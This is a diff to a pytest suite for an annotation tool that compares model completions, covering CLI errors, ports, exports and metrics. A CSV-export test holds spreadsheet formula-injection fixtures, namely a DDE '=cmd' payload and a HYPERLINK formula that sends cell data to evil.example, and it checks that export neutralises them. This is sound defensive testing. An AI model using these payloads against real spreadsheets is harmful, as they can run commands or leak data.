@@ -56,7 +56,7 @@ GOOD = {"id": "x1", "prompt": "p", "completions": [{"model": "m1", "completion":
 @pytest.mark.parametrize(
     "bad_line, message",
     [
-        ('{"id": "x2", "prompt": "p", ', "invalid JSON"),
+        ('{"id": "x2" "prompt": "p"}', "invalid JSON: Expecting ',' delimiter (column 13)"),
         ('["not", "an", "object"]', "expected a JSON object, got list"),
         (json.dumps({**GOOD, "id": "x2", "prompt": ""}), "field 'prompt' is empty"),
         (json.dumps({k: v for k, v in GOOD.items() if k != "prompt"} | {"id": "x2"}), "missing field 'prompt'"),
@@ -96,18 +96,19 @@ def test_serve_errors_and_dry_run(tmp_path):
     r = run(
         "serve", "--comparisons", str(COMPARISONS), "--db", str(tmp_path / "g.sqlite"), "--port", "0", "--guidelines", "nope.md"
     )
-    assert r.exit_code == 2 and "--guidelines: nope.md does not exist" in r.output
+    assert r.exit_code == 2 and "--guidelines nope.md: file does not exist" in r.output
     r = run("serve", "--comparisons", str(COMPARISONS), "--port", "70000")
     assert r.exit_code == 2 and "--port" in r.output
-    r = run("serve", "--comparisons", str(COMPARISONS), "--db", str(tmp_path / "s.sqlite"), "--no-shuffle", "--dry-run")
+    # --port 0: a dry run binds the port and releases it, and 5001 may be taken on a test machine.
+    r = run("serve", "--comparisons", str(COMPARISONS), "--db", str(tmp_path / "s.sqlite"), "--no-shuffle", "--port", "0", "--dry-run")
     assert r.exit_code == 0, r.output
     opts = json.loads(r.stdout)
-    assert opts["shuffle"] is False and opts["port"] == 5001 and opts["host"] == "127.0.0.1"
+    assert opts["shuffle"] is False and opts["port"] == 0 and opts["host"] == "127.0.0.1" and opts["session_hours"] == 12
     assert not (tmp_path / "s.sqlite").exists()
     cfg = tmp_path / "he.yaml"
-    cfg.write_text(f"comparisons: {COMPARISONS}\nport: 6000\n")
-    r = run("serve", "--config", str(cfg), "--port", "6001", "--dry-run")
-    assert r.exit_code == 0 and json.loads(r.stdout)["port"] == 6001
+    cfg.write_text(f"comparisons: {COMPARISONS}\nport: 0\nsession_hours: 3\n")
+    r = run("serve", "--config", str(cfg), "--session-hours", "4", "--dry-run")
+    assert r.exit_code == 0 and json.loads(r.stdout)["session_hours"] == 4
 
 
 def test_comparisons_loader_keeps_file_order_and_integer_ids(tmp_path):
@@ -170,6 +171,8 @@ def test_export_jsonl_and_csv(tmp_path):
     assert len(table) == 4 and table[0]["acceptable_1"] in ("true", "false")
     assert sorted(x["is_latest"] for x in table) == ["false", "true", "true", "true"]
     assert not list(tmp_path.glob(".all.csv.*"))  # no temporary file left behind
+    r = run("export", "--db", str(db), "-o", str(tmp_path / "new" / "dir" / "a.jsonl"))
+    assert r.exit_code == 0 and len((tmp_path / "new" / "dir" / "a.jsonl").read_text().splitlines()) == 3
 
     r = run("export", "--db", str(tmp_path / "none.sqlite"))
     assert r.exit_code == 2 and "none.sqlite: annotation database does not exist" in r.output
@@ -294,3 +297,74 @@ def test_serve_on_a_busy_port_exits_2(tmp_path):
         port = s.getsockname()[1]
         r = run("serve", "--comparisons", str(COMPARISONS), "--db", str(tmp_path / "s.sqlite"), "--port", str(port))
     assert r.exit_code == 2 and f"cannot listen on 127.0.0.1:{port}" in r.output
+
+
+def test_csv_export_neutralises_cells_that_would_run_as_spreadsheet_formulas(tmp_path):
+    rows = [
+        {"id": "f1", "prompt": "-1+1 is what?", "completions": [{"model": "=cmd|' /C calc'!A0", "completion": "@SUM(A1:A9)"},
+                                                                {"model": "m2", "completion": "\tindented"}]},
+        {"id": "f2", "prompt": "plain prompt", "completions": [{"model": "m1", "completion": "\rreturn"}, {"model": "m2", "completion": "+3"}]},
+    ]  # fmt: skip
+    pairs = write_jsonl(tmp_path / "pairs.jsonl", rows)
+    comps = {c.id: c for c in load_comparisons(pairs)}
+    db = tmp_path / "s.sqlite"
+    conn = store.open_db(db)
+    store.sync_instances(conn, list(comps.values()), str(pairs))
+    store.add_user(conn, "alice")
+    row = conn.execute("SELECT id, order_seed FROM users").fetchone()
+    alice = store.User(row["id"], "alice", row["order_seed"])
+    comment = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+    store.save_answer(conn, alice, comps["f1"], store.Answer("f1", False, True, False, 1, "-bad", "ok", comment), "sub-1")
+    store.save_answer(conn, alice, comps["f2"], store.Answer("f2", False, True, True, 3, "", "", "fine = good"), "sub-2")
+    conn.close()
+
+    out = tmp_path / "answers.csv"
+    assert run("export", "--db", str(db), "-o", str(out)).exit_code == 0
+    f1, f2 = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
+    assert f1["comment"] == "'" + comment
+    assert f1["prompt"] == "'-1+1 is what?"
+    assert f1["model_1"] == "'=cmd|' /C calc'!A0" and f1["left_model"] == "'=cmd|' /C calc'!A0"
+    assert f1["completion_1"] == "'@SUM(A1:A9)" and f1["completion_2"] == "'\tindented"
+    assert f1["feedback_1"] == "'-bad" and f1["feedback_2"] == "ok"
+    assert f1["preference"] == "-2"  # a number, not text: left alone
+    assert f2["completion_1"] == "'\rreturn" and f2["completion_2"] == "'+3"
+    assert f2["comment"] == "fine = good" and f2["prompt"] == "plain prompt" and f2["preference"] == "0"
+    # JSONL keeps the text exactly as written.
+    r = run("export", "--db", str(db), "--format", "jsonl")
+    assert json.loads(r.stdout.splitlines()[0])["comment"] == comment
+
+
+def test_metrics_tables_piped_show_whole_model_names_as_text(tmp_path):
+    long_name = "allenai/tulu-2-dpo-70b-" + "x" * 120
+    rows = [{"id": "m1", "prompt": "p", "completions": [{"model": long_name, "completion": "a"}, {"model": "[/bold]", "completion": "b"}]}]
+    pairs = write_jsonl(tmp_path / "pairs.jsonl", rows)
+    c = load_comparisons(pairs)[0]
+    db = tmp_path / "s.sqlite"
+    conn = store.open_db(db)
+    store.sync_instances(conn, [c], str(pairs))
+    store.add_user(conn, "alice")
+    row = conn.execute("SELECT id, order_seed FROM users").fetchone()
+    store.save_answer(conn, store.User(row["id"], "alice", row["order_seed"]), c, store.Answer("m1", False, True, False, 1), "sub-1")
+    conn.close()
+    r = run("metrics", "--db", str(db))  # CliRunner's output is not a terminal, like a pipe
+    assert r.exit_code == 0, r.output
+    assert sum(long_name in line for line in r.stdout.splitlines()) == 2  # acceptance and pairwise tables, unbroken
+    assert "[/bold]" in r.stdout  # a model name that looks like markup is printed, not interpreted
+
+
+def test_comparisons_may_be_gzipped(tmp_path):
+    import gzip
+
+    gz = tmp_path / "pairs.jsonl.gz"
+    gz.write_bytes(gzip.compress(COMPARISONS.read_bytes()))
+    assert [c.id for c in load_comparisons(gz)] == [c.id for c in load_comparisons(COMPARISONS)]
+
+
+def test_refused_add_user_and_serve_leave_no_database(tmp_path):
+    db = tmp_path / "s.sqlite"
+    assert run("add-user", "", "--db", str(db)).exit_code == 2
+    assert run("add-user", "bob", "--db", str(db), "--reset").exit_code == 2
+    assert run("serve", "--comparisons", str(COMPARISONS), "--db", str(db), "--host", "203.0.113.7", "--port", "0").exit_code == 2
+    assert list(tmp_path.iterdir()) == []
+    r = run("add-user", "bob", "--db", str(db), "--dry-run")
+    assert r.exit_code == 0 and not db.exists()
